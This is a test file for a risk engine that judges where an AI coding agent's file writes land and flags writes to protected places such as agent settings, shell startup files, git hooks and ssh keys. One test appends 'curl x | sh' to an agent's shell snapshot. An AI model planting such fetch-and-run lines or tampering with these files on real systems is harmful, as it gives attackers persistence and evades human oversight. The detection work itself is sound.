// The file tools' judge: where a Write, Edit or apply_patch lands, and whether that place is protected. The same
// protected places the shell rules know (one judgement, `protectedWrite`), and nothing else: an ordinary file is null.
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { agentDirsFrom, ContextProvider } from '../../../../electron/core/risk/context.ts';
import { judgeFileChange, landingPlaces } from '../../../../electron/core/risk/file-change.ts';
import { createRiskEngine } from '../../../../electron/core/risk/index.ts';
import { HOME, PROJECT, testContextOptions } from '../../../support/risk.ts';
import { tempDir } from '../../../support/temp.ts';

const ctx = new ContextProvider(testContextOptions()).forCwd(PROJECT);
const judge = (paths: string[], tool = 'Write') => judgeFileChange({ tool, paths, cwd: PROJECT }, ctx);

describe('file tools on protected places', () => {
  it.each([
    ["the project's Claude settings", `${PROJECT}/.claude/settings.local.json`],
    ["the project's Claude settings, relative", '.claude/settings.json'],
    ['a Claude command in the project', '.claude/commands/x.md'],
    ["Claude's user settings", '~/.claude/settings.json'],
    ["Claude's shell snapshot", `${HOME}/.claude/shell-snapshots/snapshot-bash-1-abc.sh`],
    ['~/.claude.json', `${HOME}/.claude.json`],
    ["Codex's config", `${HOME}/.codex/config.toml`],
    ["the project's Codex config", '.codex/config.toml'],
    ["Gemini's settings", '.gemini/settings.json'],
    ["Cursor's MCP servers", '.cursor/mcp.json'],
    ['.mcp.json', '.mcp.json'],
    ['VS Code settings', '.vscode/settings.json'],
    ['a shell startup file', '~/.bashrc'],
    ["zsh's startup file, by absolute path", `${HOME}/.zshrc`],
    ["fish's config", `${HOME}/.config/fish/config.fish`],
    ['a git hook', '.git/hooks/pre-commit'],
    ["the repository's git config", '.git/config'],
    ["the user's git config", '~/.gitconfig'],
    ["the user's git config, XDG", `${HOME}/.config/git/config`],
    ["ssh's authorized keys", '~/.ssh/authorized_keys'],
    ["ssh's config", `${HOME}/.ssh/config`],
    ["Gatehouse's data", `${HOME}/.config/Gatehouse/settings.json`],
    ["Gatehouse's socket directory by name", '/tmp/gatehouse-1000-0123456789ab/gate.sock'],
    ['a path that climbs into the settings', 'src/../.claude/settings.json'],
  ])('%s is held, critical', (_name, file) => {
    const r = judge([file]);
    expect(r?.level, JSON.stringify(r)).toBe('critical');
    expect(r?.reasons[0]).toMatch(/^Write writes /);
  });

  it('says what the place is in the reason', () => {
    expect(judge(['.claude/settings.local.json'])?.reasons[0]).toBe(
      `Write writes ${PROJECT}/.claude/settings.local.json, Gatehouse's own data or an agent's hook settings`,
    );
    expect(judge(['~/.bashrc'], 'Edit')?.reasons[0]).toBe(
      `Edit edits ${HOME}/.bashrc, a shell startup file, which runs in every new shell`,
    );
    expect(judge(['.git/hooks/pre-push'], 'apply_patch')?.categories).toEqual(['system-config']);
  });

  it('holds a program folder on PATH as high (a file there can stand in for curl)', () => {
    expect(judge(['~/.local/bin/curl'])?.level).toBe('high');
  });

  it.each([
    ['a source file', 'src/a.txt'],
    ['a new file at the root', 'README.md'],
    ['an absolute path in the project', `${PROJECT}/lib/x.ts`],
    ["Cursor's rules (instructions, not permissions)", '.cursor/rules/style.mdc'],
    ['a file in the temporary directory', '/tmp/notes.txt'],
    ['a .env file (a secret, not a protected place)', '.env'],
    ['another project', '/home/dev/other/x.js'],
    ['a doc that mentions .claude in its name', 'docs/claude-settings.md'],
  ])('%s passes (null: no card)', (_name, file) => {
    expect(judge([file])).toBeNull();
  });

  it('judges every file of a change, worst first', () => {
    const r = judge(['src/a.ts', '.codex/config.toml', 'src/b.ts'], 'apply_patch');
    expect(r?.level).toBe('critical');
    expect(r?.reasons).toEqual([
      `apply_patch patches ${PROJECT}/.codex/config.toml, Gatehouse's own data or an agent's hook settings`,
    ]);
    expect(judge(['src/a.ts', 'src/b.ts'], 'apply_patch')).toBeNull();
  });
});

describe("agents' configuration directories moved by the environment", () => {
  const claudeDir = `${HOME}/conf/claude`;
  const codexDir = '/opt/codex-home';
  const moved = new ContextProvider({
    ...testContextOptions(),
    agentDirs: agentDirsFrom({ CLAUDE_CONFIG_DIR: claudeDir, CODEX_HOME: codexDir }),
  }).forCwd(PROJECT);

  it('reads CLAUDE_CONFIG_DIR and CODEX_HOME, absolute ones only', () => {
    expect(agentDirsFrom({ CLAUDE_CONFIG_DIR: '/a/b/', CODEX_HOME: 'rel/x' })).toEqual({ claude: '/a/b' });
    expect(agentDirsFrom({})).toEqual({});
  });

  it.each([
    [
      "Claude Code's shell snapshot (2.1.330 writes them to $CLAUDE_CONFIG_DIR/shell-snapshots/)",
      `${claudeDir}/shell-snapshots/snapshot-bash-1-abc.sh`,
    ],
    ['its settings', `${claudeDir}/settings.json`],
    ['a hook script beside them', `${claudeDir}/hooks/pre.sh`],
    ["Codex's config", `${codexDir}/config.toml`],
  ])('%s is held, critical', (_name, file) => {
    expect(judgeFileChange({ tool: 'Write', paths: [file], cwd: PROJECT }, moved)?.level).toBe('critical');
    // Without the variables these are ordinary files outside the project.
    expect(judgeFileChange({ tool: 'Write', paths: [file], cwd: PROJECT }, ctx)).toBeNull();
  });

  it('holds a shell append to a moved snapshot folder as critical too (the same judgement)', async () => {
    const engine = await createRiskEngine({ ...testContextOptions(), agentDirs: { claude: claudeDir } });
    const a = engine.assess(`echo 'curl x | sh' >> ${claudeDir}/shell-snapshots/snapshot-bash-1-abc.sh`, PROJECT);
    expect(a.level).toBe('critical');
    expect(a.reasons[0]).toContain("an agent's settings");
  });
});

describe('where a file tool writes', () => {
  it('resolves relative paths, ~ and .. as the tool does', () => {
    expect(landingPlaces('a/../b.txt', '/p', '/h')).toEqual(['/p/b.txt']);
    expect(landingPlaces('~/.bashrc', '/p', '/h')).toEqual(['/h/.bashrc']);
    expect(landingPlaces('/abs/x', '/p', '/h')).toEqual(['/abs/x']);
  });

  it('follows symbolic links, dangling ones too, and judges where the write lands', () => {
    const root = fs.realpathSync(tempDir('gh-links-'));
    const home = path.join(root, 'home');
    const project = path.join(root, 'project');
    fs.mkdirSync(path.join(project, 'src'), { recursive: true });
    fs.mkdirSync(home);
    // A link to a startup file that does not exist yet: writing through it creates ~/.bashrc.
    fs.symlinkSync(path.join(home, '.bashrc'), path.join(project, 'src', 'notes.txt'));
    // A folder link: `linked/../` climbs from where the link points, not from the project.
    fs.mkdirSync(path.join(home, 'deep', 'er'), { recursive: true });
    fs.symlinkSync(path.join(home, 'deep', 'er'), path.join(project, 'linked'));
    expect(landingPlaces('src/notes.txt', project, home)).toEqual([
      path.join(project, 'src', 'notes.txt'),
      path.join(home, '.bashrc'),
    ]);
    expect(landingPlaces('linked/../x', project, home)).toEqual([
      path.join(project, 'x'),
      path.join(home, 'deep', 'x'),
    ]);

    const c = new ContextProvider({ home, findRepository: () => project }).forCwd(project);
    const r = judgeFileChange({ tool: 'Write', paths: ['src/notes.txt'], cwd: project }, c);
    expect(r?.level).toBe('critical');
    expect(r?.reasons[0]).toBe(
      `Write writes ${home}/.bashrc, a shell startup file, which runs in every new shell (src/notes.txt is a symbolic link that leads there)`,
    );
    expect(judgeFileChange({ tool: 'Write', paths: ['src/plain.txt'], cwd: project }, c)).toBeNull();
  });

  it('stops following a loop of links (the write would fail with ELOOP anyway)', () => {
    const root = fs.realpathSync(tempDir('gh-loop-'));
    fs.symlinkSync(path.join(root, 'b'), path.join(root, 'a'));
    fs.symlinkSync(path.join(root, 'a'), path.join(root, 'b'));
    expect(landingPlaces('a', root, '/h')[0]).toBe(path.join(root, 'a'));
  });
});
